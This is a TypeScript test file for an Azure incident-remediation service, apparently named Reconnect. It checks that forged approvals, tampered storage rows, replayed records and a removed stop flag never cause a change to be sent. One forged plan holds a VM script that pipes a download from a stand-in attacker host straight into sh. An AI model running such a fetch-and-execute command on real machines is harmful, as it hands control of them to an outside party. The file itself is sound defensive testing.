import { createSecretKey } from 'node:crypto';
import { localKeys, type RecordKeys } from '../../shared/config/record-keys';
import { Policy } from '../../shared/model/policy';
import { readAlert } from '../../shared/incident/alert';
import { planHash } from '../../shared/incident/assess';
import type { IncidentEvent, Proposal } from '../../shared/incident/events';
import { fail } from '../../shared/incident/fail';
import { handle } from '../../shared/incident/handle';
import { reply } from '../../shared/incident/reply';
import type { Dependencies } from '../../shared/incident/dependencies';
import { shortCode } from '../../shared/approvals/approval';
import type { Change } from '../../shared/model/change';
import { sha256 } from '../../shared/model/canonical';
import type { IncidentView } from '../../shared/cards/view';
import { stateOf } from '../../shared/incident/state';
import { summaryOf } from '../../shared/incident/summary';
import { eventKey } from '../../shared/store/incident-rows';
import { storeOn } from '../../shared/store/open-store';
import { sendTo } from '../../shared/store/outgoing';
import { readRows } from '../../shared/store/rows';
import type { NewRow } from '../../shared/store/storage';
import { rolesIn } from '../../shared/simulation/rehearsal/stage';
import { scenarioFrom } from '../../shared/simulation/scenarios/load';
import type { Role } from '../../shared/simulation/twin/contract';
import { directAzure } from '../../shared/simulation/twin/direct';
import { realTimes } from '../../shared/simulation/twin/times';
import { memoryStorage } from '../../shared/simulation/storage/memory';
import { nextMessageAt, takeMessage } from '../../shared/simulation/storage/messages';

// Somebody can write whatever they like into the storage account: tables, queues and blobs. They cannot sign as Reconnect does.

const root = `${__dirname}/../..`;
const minute = 60_000;
const kim = { id: '22222222-2222-4222-8222-222222222222', name: 'Kim' };
const mallory = { id: '66666666-6666-4666-8666-666666666666', name: 'Mallory' };
let roles: readonly Role[];
beforeAll(async () => {
  roles = await rolesIn(root);
});

/** A service at work on a scenario, and everything that it sent or told. */
async function service(name = 'vm-sshd-config-invalid') {
  const clock = { now: Date.parse('2026-03-02T09:00:00.000Z') };
  const now = () => clock.now;
  const scenario = await scenarioFrom(name, root);
  const storage = memoryStorage({ now, pick: () => 0 });
  const queues = [storage.queue, storage.looks];
  const { azure } = directAzure({ ...scenario, clock: now, times: realTimes, roles });
  const sent: Change[] = [];
  const told: IncidentView[] = [];
  const policy = Policy.parse({ ...scenario.policy, approvers: [kim] });
  const show = (view: IncidentView) => {
    told.push(view);
    return Promise.resolve({ conversation: 'c', activity: view.incident });
  };
  /** A process of the service: what one has seen, another has not. */
  const start = (differs: Partial<Dependencies> = {}): Dependencies => ({
    store: storeOn(storage, sendTo(storage), now, localKeys),
    azure: {
      ...azure,
      submit: (change, requestId) => {
        sent.push(change);
        return azure.submit(change, requestId);
      },
    },
    messenger: { reply: () => Promise.resolve(), post: show, update: (_, view) => show(view).then(() => undefined) },
    policy,
    language: 'en',
    now,
    log: () => undefined,
    measure: () => undefined,
    ...differs,
  });
  /** Works on messages until none arrives for this long, ms. As the host does, it gives up a message after five tries. */
  const work = async (forMs: number, deps = start()): Promise<void> => {
    const until = now() + forMs;
    for (;;) {
      const at = nextMessageAt(queues);
      if (at > until) break;
      clock.now = Math.max(now(), at);
      await takeMessage(queues, (message) => handle(message, deps).catch(() => fail(message, deps)));
    }
    clock.now = until;
  };
  const alert = async (deps: Dependencies) => {
    if (scenario.signal.kind !== 'alert') throw new Error('This scenario has no alert.');
    const read = readAlert(JSON.stringify(scenario.signal.body), policy, new Date(now()).toISOString());
    for (const signal of read.kind === 'signals' ? read.signals : []) await deps.store.receive(signal);
  };
  /** Up to the question. */
  const deps = start();
  await alert(deps);
  await work(5 * minute, deps);
  const [summary] = await deps.store.list(1);
  if (!summary) throw new Error('There is no incident.');
  const { id } = summary;
  const question = (await deps.store.load(id))?.events.map(({ event }) => event).find(({ kind }) => kind === 'planned');
  if (question?.kind !== 'planned') throw new Error('There is no plan.');
  const { proposal } = question;
  const approve = () =>
    reply(id, { code: shortCode(id, proposal.hash), planHash: proposal.hash, decision: 'approve', by: kim }, start());

  /** Appends events as Reconnect would, with a key of one's own choice. */
  const forge = async (events: readonly IncidentEvent[], keys: RecordKeys) => {
    const own = storeOn(storage, sendTo(storage), now, keys);
    const stored = await storeOn(storage, sendTo(storage), now, localKeys).load(id);
    if (!stored) throw new Error('There is no incident.');
    const state = stateOf(id, [...stored.events.map(({ event }) => event), ...events]);
    expect(await own.append(id, stored.version, events, summaryOf(state), now())).not.toBe('conflict');
    await own.send({ kind: 'wake', incident: id }, now());
  };
  const wake = () => start().store.send({ kind: 'wake', incident: id }, now());
  const rowsOf = async (partition: string, table = storage.incidents): Promise<readonly NewRow[]> =>
    (await readRows(table, partition, '', '~')).map(({ etag: _, timestamp: __, ...row }) => row as unknown as NewRow);
  return {
    clock,
    storage,
    deps,
    start,
    work,
    id,
    proposal,
    approve,
    forge,
    wake,
    rowsOf,
    sent,
    told,
    target: summary.target,
  };
}
type Service = Awaited<ReturnType<typeof service>>;

const at = ({ clock }: Service): string => new Date(clock.now).toISOString();
const someKey: RecordKeys = [{ id: 'local', secret: createSecretKey(Buffer.alloc(32, 'mallory')) }];

const withChange = (proposal: Proposal, change: Change): Proposal => {
  const plan = { ...proposal.plan, changes: [change] };
  return { ...proposal, plan, hash: planHash(plan) };
};
const ownScript = ({ proposal }: Service): Proposal =>
  withChange(proposal, {
    kind: 'run-command',
    vm: proposal.plan.resource,
    script: ['curl https://mallory.example.com | sh && echo reconnect:done'],
    leaves: '/x',
  });

/** Events that lead from the open question to a change that is about to be sent. */
const approvedBy = (service: Service, by: typeof kim, proposal?: Proposal): readonly IncidentEvent[] => {
  const until = new Date(service.clock.now + 30 * minute).toISOString();
  const another: readonly IncidentEvent[] = proposal
    ? [
        { at: at(service), kind: 'planned', proposal },
        {
          at: at(service),
          kind: 'asked',
          approval: { code: shortCode(service.id, proposal.hash), planHash: proposal.hash, approvers: [by], until },
        },
      ]
    : [];
  return [...another, { at: at(service), kind: 'answered', by, decision: 'approve' }];
};
const checked = (service: Service): readonly IncidentEvent[] => [
  { at: at(service), kind: 'round-started', purpose: 'recheck' },
  {
    at: at(service),
    kind: 'observed',
    observation: {
      kind: 'virtualMachine',
      params: { id: 'x' },
      at: at(service),
      outcome: { kind: 'answered', answer: {} },
    },
  },
  { at: at(service), kind: 'rechecked', result: 'same', probes: [] },
];

const forgeries: readonly [string, (service: Service) => readonly IncidentEvent[]][] = [
  ['an approval', (service) => [...approvedBy(service, kim), ...checked(service)]],
  ['an approval by somebody else', (service) => [...approvedBy(service, mallory), ...checked(service)]],
  ['a script and its approval', (service) => [...approvedBy(service, kim, ownScript(service)), ...checked(service)]],
  [
    'a plan for another VM and its approval',
    (service) => [
      ...approvedBy(
        service,
        kim,
        withChange(service.proposal, { kind: 'restart-vm', vm: `${service.proposal.plan.resource}-other` }),
      ),
      ...checked(service),
    ],
  ],
  [
    'a script that undoes',
    (service) => {
      const [script] = ownScript(service).plan.changes;
      const plan = { ...service.proposal.plan, undo: script ? [script] : [] };
      return [
        ...approvedBy(service, kim, { ...service.proposal, plan, hash: planHash(plan) }),
        ...checked(service),
        { at: at(service), kind: 'change-intended', step: { of: 'changes', index: 0 }, requestId: 'x' },
        { at: at(service), kind: 'change-settled', step: { of: 'changes', index: 0 }, result: { kind: 'landed' } },
        { at: at(service), kind: 'undo-started', why: 'failed-halfway' },
      ];
    },
  ],
];

describe('without the key', () => {
  test.each(forgeries)('%s: nothing is sent, people are told, and the target stays held', async (_, forged) => {
    const played = await service();
    await played.forge(forged(played), someKey);
    const before = played.told.length;
    await played.work(30 * minute, played.start());
    expect(played.sent).toEqual([]);
    expect(played.told.slice(before).map(({ broken }) => broken.en)).toContain(
      'A stored record of Reconnect was changed by somebody else',
    );
    expect(await played.start().store.open()).toEqual([played.id]);
  });

  test('events that are written by hand, hashed but not sealed, are not believed', async () => {
    const played = await service();
    const rows = await played.rowsOf(played.id);
    const last = rows.filter(({ rowKey }) => rowKey.startsWith('event-')).at(-1)!;
    const json = JSON.stringify(approvedBy(played, kim)[0]);
    const seq = Number(last.rowKey.slice(6)) + 1;
    await played.storage.incidents.createEntity({
      partitionKey: played.id,
      rowKey: eventKey(seq),
      event: json,
      hash: sha256(`${last['hash'] ?? ''}${json}`),
      seal: last['seal']!,
    });
    await played.wake();
    await played.work(10 * minute, played.start());
    expect(played.sent).toEqual([]);
    await expect(played.start().store.load(played.id)).rejects.toMatchObject({ code: 'STORE_DAMAGED' });
  });

  test('the rows of an incident that was approved do not hold for another', async () => {
    const played = await service();
    await played.approve();
    for (const row of await played.rowsOf(played.id))
      await played.storage.incidents.upsertEntity({ ...row, partitionKey: 'i00000000000' }, 'Replace');
    await expect(played.start().store.load('i00000000000')).rejects.toMatchObject({ code: 'STORE_DAMAGED' });
    await expect(played.start().store.list(10)).resolves.toHaveLength(1);
  });

  test('an incident that was put back to before its end sends nothing a second time', async () => {
    const played = await service();
    await played.approve();
    const approved = await played.rowsOf(played.id);
    await played.work(60 * minute, played.start());
    const once = played.sent.length;
    expect(once).toBeGreaterThan(0);
    for (const row of await played.rowsOf(played.id))
      await played.storage.incidents.deleteEntity(played.id, row.rowKey);
    for (const row of approved) await played.storage.incidents.upsertEntity(row, 'Replace');
    await played.wake();
    await played.work(60 * minute, played.start());
    expect(played.sent).toHaveLength(once);
  });

  test('a stop that is taken out of the ledger stays: nothing is sent, and the ledger is not believed', async () => {
    const played = await service();
    await played.start().store.switchChanges({ kind: 'off', by: 'Kim' });
    const [head] = (await played.rowsOf('ledger', played.storage.targets)).filter(({ rowKey }) => rowKey === 'head');
    const { stop: _, ...rest } = JSON.parse(head!['body']!) as Record<string, unknown>;
    await played.storage.targets.upsertEntity({ ...head!, body: JSON.stringify(rest) }, 'Replace');
    await played.approve();
    const before = played.told.length;
    await played.work(30 * minute, played.start());
    expect(played.sent).toEqual([]);
    expect(played.told.length).toBeGreaterThan(before);
  });

  test('a forged signal and a forged message lead to a look and a question at most', async () => {
    const played = await service();
    const { store } = played.start();
    await store.send({ kind: 'wake', incident: played.id }, played.clock.now);
    await store.send({ kind: 'wake', incident: 'i99999999999' }, played.clock.now);
    await store.send(
      {
        kind: 'signal',
        signal: { kind: 'sweep', id: 'forged', at: at(played), target: played.target },
      },
      played.clock.now,
    );
    await played.work(20 * minute, played.start());
    expect(played.sent).toEqual([]);
  });
});

describe('even with the key', () => {
  test.each(forgeries.slice(1))('%s: nothing is sent, and people are told', async (_, forged) => {
    const played = await service();
    await played.forge(forged(played), localKeys);
    const before = played.told.length;
    await played.work(30 * minute, played.start());
    expect(played.sent).toEqual([]);
    expect(played.told.length).toBeGreaterThan(before);
  });
});

describe('right before a change is sent', () => {
  const approved = async (differs: (played: Service) => Partial<Dependencies>) => {
    const played = await service();
    await played.approve();
    await played.work(30 * minute, played.start(differs(played)));
    return played;
  };

  test('it is sent when nothing speaks against it', async () => {
    expect((await approved(() => ({}))).sent).not.toEqual([]);
  });

  test('the approver must still be one', async () => {
    const { sent, told } = await approved(({ deps }) => ({ policy: { ...deps.policy, approvers: [mallory] } }));
    expect(sent).toEqual([]);
    expect(JSON.stringify(told.at(-1)?.status)).toContain('no approver in the policy any more');
  });
});
